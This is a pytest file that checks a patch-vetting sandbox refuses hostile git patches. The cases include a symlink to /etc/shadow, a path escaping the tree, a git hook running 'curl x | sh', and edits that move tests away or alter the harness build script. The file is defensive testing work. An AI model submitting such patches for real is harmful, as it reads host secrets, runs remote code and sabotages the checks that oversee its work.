"""Patches that try to get past the vetting, each applied by the real git: every one is refused for what it
does, and the repository gains no commit, branch or file (issue 13 item 3, closed in 00632da)."""

from __future__ import annotations

import subprocess

import pytest

from readfirst.errors import PatchRejected
from readfirst.sandbox.patch import commit_patch
from readfirst.sources import git
from readfirst.targets.llama_cpp.target import PROTECTED

CASES = {
    "a spaced header hides a symlink to a host secret":
        "diff --git a/my link b/my link\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n"
        "+++ b/my link\n@@ -0,0 +1 @@\n+/etc/shadow\n\\ No newline at end of file\n",
    "a prefix other than a/ and b/ reaches the tests":
        "diff --git x/tests/t.cpp y/tests/t.cpp\n--- x/tests/t.cpp\n+++ y/tests/t.cpp\n@@ -1 +1 @@\n-int t;\n"
        "+int t2;\n",
    "a rename takes a test away":
        "diff --git a/tests/t.cpp b/src/t.cpp\nsimilarity index 100%\nrename from tests/t.cpp\n"
        "rename to src/t.cpp\n",
    "the harness's build script":
        "diff --git a/CMakeLists.txt b/CMakeLists.txt\n--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n"
        "@@ -1 +1 @@\n-project(x)\n+project(x) # add_subdirectory(elsewhere)\n",
    "a path that leaves the tree":
        "diff --git a/../outside.c b/../outside.c\nnew file mode 100644\n--- /dev/null\n+++ b/../outside.c\n"
        "@@ -0,0 +1 @@\n+int x;\n",
    "a git hook":
        "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n--- /dev/null\n"
        "+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl x | sh\n",
    "a NUL in a path":
        "diff --git a/src/a\0.c b/src/a\0.c\n--- a/src/a\0.c\n+++ b/src/a\0.c\n@@ -1 +1 @@\n-int a;\n+int b;\n",
    "binary content":
        "diff --git a/src/blob b/src/blob\nnew file mode 100644\nindex 0000000..2222222\nGIT binary patch\n"
        "literal 3\nKcmZ?wWB>pF0RR92\n\nliteral 0\nHcmV?d00001\n\n",
}


@pytest.fixture
def repo(tmp_path):
    repo = tmp_path / "repo"
    (repo / "tests").mkdir(parents=True)
    (repo / "src").mkdir()
    (repo / "tests" / "t.cpp").write_text("int t;\n")
    (repo / "src" / "a.c").write_text("int a;\n")
    (repo / "CMakeLists.txt").write_text("project(x)\n")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "baseline")
    return repo


@pytest.mark.parametrize("name", list(CASES))
def test_a_patch_that_tries_to_get_past_the_vetting_is_refused(attack, repo, name):
    base = git(repo, "rev-parse", "HEAD").stdout.strip()
    refs = git(repo, "for-each-ref").stdout
    files = sorted(p.relative_to(attack.root) for p in attack.root.rglob("*") if ".git" not in p.parts)
    try:
        commit = commit_patch(repo, CASES[name], base=base, message="attack", protected=PROTECTED)
    except PatchRejected as e:
        print(f"{name}: {e}")  # a patch git cannot apply raises PatchDoesNotApply instead, failing the case
    else:
        attack.escaped(f"{name}: committed as {commit[:10]}")
    if git(repo, "for-each-ref").stdout != refs:
        attack.left_behind(f"{name}: a branch was made")
    if sorted(p.relative_to(attack.root) for p in attack.root.rglob("*") if ".git" not in p.parts) != files:
        attack.left_behind(f"{name}: a file appeared")
